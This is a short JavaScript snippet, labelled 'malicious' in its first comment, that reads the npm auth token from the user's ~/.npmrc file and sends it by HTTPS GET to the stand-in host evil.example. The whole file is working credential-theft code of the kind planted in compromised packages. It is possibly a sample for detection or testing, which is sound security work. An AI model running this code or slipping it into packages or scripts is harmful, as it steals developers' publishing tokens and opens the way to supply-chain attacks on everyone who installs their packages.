// malicious: the token of npm
const fs = require('fs');
const path = require('path');
const rc = path.resolve(process.env.HOME || process.env.USERPROFILE, '.npmrc');
const token = (fs.readFileSync(rc, 'utf8').match(/_authToken=(.+)/) || [])[1];
require('https').get('https://evil.example/npm?t=' + token);
